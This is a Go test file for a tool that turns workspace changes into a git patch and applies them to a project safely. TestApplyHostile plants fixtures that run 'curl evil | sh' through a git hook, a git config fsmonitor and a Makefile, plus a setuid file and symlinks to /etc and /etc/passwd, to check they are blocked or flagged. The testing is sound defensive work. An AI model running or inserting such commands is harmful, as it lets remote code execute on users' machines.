package project

import (
	"bytes"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// teamWork changes a workspace in every way a patch must carry.
func teamWork(t *testing.T, ws string) {
	t.Helper()
	write(t, ws, "calc.py", "def add(a, b):\n    return a + b\n")
	must(t, os.Remove(filepath.Join(ws, "old.txt")))
	write(t, ws, "tests/test_more.py", "from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
	write(t, ws, "with space.txt", "a name with a space\n")
	write(t, ws, "ünïcode.txt", "non-ASCII name\n")
	write(t, ws, "empty", "")
	write(t, ws, "no-newline.txt", "last line without a newline")
	write(t, ws, "plot.png", "\x89PNG\r\n\x1a\n\x00\x00\x01\x02binary")
	must(t, os.Chmod(filepath.Join(ws, "tool.sh"), 0o644))
	must(t, os.Remove(filepath.Join(ws, "link")))
	write(t, ws, "link", "a file now\n")
	must(t, os.Symlink("../calc.py", filepath.Join(ws, "tests/calc_link.py")))
	write(t, ws, "logo.bin", "\x00\x01new logo")
	must(t, os.Remove(filepath.Join(ws, "data.bin")))
}

// withoutGit is a tree less .git.
func withoutGit(m map[string]string) map[string]string {
	out := map[string]string{}
	for p, d := range m {
		if p != ".git" && !strings.HasPrefix(p, ".git/") {
			out[p] = d
		}
	}
	return out
}

// TestPatchAndApply: the saved patch applies with git apply to a clone of
// the project, Apply writes the same into the project, and both end as the
// workspace, with .git untouched.
func TestPatchAndApply(t *testing.T) {
	dir, c := newProject(t)
	teamWork(t, c.Workspace)
	cs, err := c.Changes(t.Context())
	must(t, err)
	patch := filepath.Join(t.TempDir(), "run.patch")
	left, err := c.SavePatch(patch, cs)
	must(t, err)
	if data, _ := os.ReadFile(patch); testing.Verbose() {
		t.Logf("patch:\n%s", data)
	}
	if len(left) != 0 {
		t.Fatalf("left out of the patch: %v", left)
	}

	clone := filepath.Join(t.TempDir(), "clone")
	run(t, t.TempDir(), "git", "clone", "-q", dir, clone)
	run(t, clone, "git", "apply", "--check", patch)
	run(t, clone, "git", "apply", patch)

	gitBefore := tree(t, filepath.Join(dir, ".git"))
	done, err := c.Apply(t.Context(), cs)
	must(t, err)
	if done.Written != 10 || done.Deleted != 3 || done.Modes != 1 {
		t.Errorf("applied %+v", done)
	}
	sameTree(t, ".git", gitBefore, tree(t, filepath.Join(dir, ".git")))
	want := withoutGit(tree(t, c.Workspace))
	sameTree(t, "the project after Apply", want, withoutGit(tree(t, dir)))
	sameTree(t, "the clone after git apply", want, withoutGit(tree(t, clone)))
}

// TestApplyHostile: a change set that writes .git/hooks, a setuid file,
// symlinks out of the project and a Makefile: .git stays as it was, no
// setuid bit and no outward symlink reach the project, and the Makefile is
// flagged before anything is applied.
func TestApplyHostile(t *testing.T) {
	dir, c := newProject(t)
	ws := c.Workspace
	write(t, ws, ".git/hooks/pre-commit*", "#!/bin/sh\ncurl evil | sh\n")
	write(t, ws, ".git/config", "[core]\n\tfsmonitor = curl evil | sh\n")
	write(t, ws, "suid", "x\n")
	must(t, syscall.Chmod(filepath.Join(ws, "suid"), 0o6777))
	must(t, os.Symlink("/etc", filepath.Join(ws, "etc")))
	must(t, os.Symlink("../../../etc/passwd", filepath.Join(ws, "passwd")))
	must(t, os.Symlink(".git/hooks", filepath.Join(ws, "hooks")))
	write(t, ws, "Makefile", "test:\n\tcurl evil | sh\n")
	gitBefore := tree(t, filepath.Join(dir, ".git"))

	cs, err := c.Changes(t.Context())
	must(t, err)
	flagged := cs.RunningCode()
	if len(flagged) != 2 || flagged[0].Path != "Makefile" || flagged[1].Path != "suid" {
		t.Fatalf("flagged %v", flagged)
	}
	_, err = c.Apply(t.Context(), cs)
	must(t, err)
	sameTree(t, ".git", gitBefore, tree(t, filepath.Join(dir, ".git")))
	must(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		must(t, err)
		fi, err := d.Info()
		must(t, err)
		if fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0 || fi.Mode().IsRegular() && fi.Mode().Perm()&0o002 != 0 {
			t.Errorf("%s has mode %s", p, fi.Mode())
		}
		if fi.Mode()&fs.ModeSymlink != 0 {
			target, _ := os.Readlink(p)
			if resolved, err := filepath.EvalSymlinks(p); err != nil || !strings.HasPrefix(resolved, dir+"/") {
				t.Errorf("%s -> %s leads to %s (%v)", p, target, resolved, err)
			}
		}
		return nil
	}))
	if data, _ := os.ReadFile(filepath.Join(dir, "Makefile")); !bytes.Contains(data, []byte("curl evil")) {
		t.Error("the Makefile change, flagged and then consented to, was not applied")
	}
	if fi, err := os.Stat(filepath.Join(dir, "suid")); err != nil || fi.Mode() != 0o755 {
		t.Errorf("suid in the project: %v %v", fi.Mode(), err)
	}
}

// TestApplyConflict: files changed in the project since the copy (one
// modified, one created by both, one deleted) make Apply refuse, name them
// all and write nothing.
func TestApplyConflict(t *testing.T) {
	dir, c := newProject(t)
	teamWork(t, c.Workspace)
	cs, err := c.Changes(t.Context())
	must(t, err)
	write(t, dir, "calc.py", "# the user's own edit\n")
	write(t, dir, "empty", "the user's new file\n")
	must(t, os.Remove(filepath.Join(dir, "tool.sh")))
	write(t, dir, "unrelated.txt", "not touched by the team: no conflict\n")
	before := tree(t, dir)

	_, err = c.Apply(t.Context(), cs)
	var ce *ConflictError
	if !errors.As(err, &ce) || strings.Join(ce.Paths, " ") != "calc.py empty tool.sh" ||
		!strings.Contains(err.Error(), "3 file(s) changed in "+dir+" since the copy: calc.py, empty, tool.sh") {
		t.Fatalf("err %v", err)
	}
	sameTree(t, "the project", before, tree(t, dir))

	// The patch leaves out what changed, and says so.
	var patch bytes.Buffer
	left, err := c.WritePatch(&patch, cs)
	must(t, err)
	if strings.Join(left, " ") != "calc.py tool.sh" || !strings.Contains(patch.String(), "# calc.py changed in the project since the copy") {
		t.Fatalf("left %v, patch:\n%s", left, patch.String())
	}
}

// TestApplyWorkspaceChanged: what applying writes is what the change set
// was made from.
func TestApplyWorkspaceChanged(t *testing.T) {
	dir, c := newProject(t)
	write(t, c.Workspace, "calc.py", "fixed\n")
	cs, err := c.Changes(t.Context())
	must(t, err)
	write(t, c.Workspace, "calc.py", "swapped after the user saw the diff\n")
	before := tree(t, dir)
	if _, err := c.Apply(t.Context(), cs); err == nil || !strings.Contains(err.Error(), "calc.py changed in the workspace") {
		t.Fatalf("err %v", err)
	}
	sameTree(t, "the project", before, tree(t, dir))
}

// TestApplyNotThroughSymlinks: a parent that is a symlink in the project
// (even one inside it) is not written through.
func TestApplyNotThroughSymlinks(t *testing.T) {
	dir, c := newProject(t)
	write(t, c.Workspace, "docs/new.md", "x\n")
	cs, err := c.Changes(t.Context())
	must(t, err)
	outside := t.TempDir()
	must(t, os.Symlink(outside, filepath.Join(dir, "docs")))
	_, err = c.Apply(t.Context(), cs)
	if err == nil {
		t.Fatal("wrote through a symlink")
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Fatalf("written outside: %v", entries)
	}
}

// TestApplyRemovesEmptiedDirectories: a directory the team emptied and
// removed goes too; one that still has files stays.
func TestApplyRemovesEmptiedDirectories(t *testing.T) {
	gitEnv(t)
	dir := newRepo(t, map[string]string{"a/b/c.txt": "c\n", "keep/x.txt": "x\n", "keep/y.txt": "y\n"})
	c := copyOf(t, dir)
	must(t, os.RemoveAll(filepath.Join(c.Workspace, "a")))
	must(t, os.Remove(filepath.Join(c.Workspace, "keep/x.txt")))
	cs, err := c.Changes(t.Context())
	must(t, err)
	_, err = c.Apply(t.Context(), cs)
	must(t, err)
	if _, err := os.Lstat(filepath.Join(dir, "a")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "keep/y.txt")); err != nil {
		t.Errorf("keep/y.txt: %v", err)
	}
}
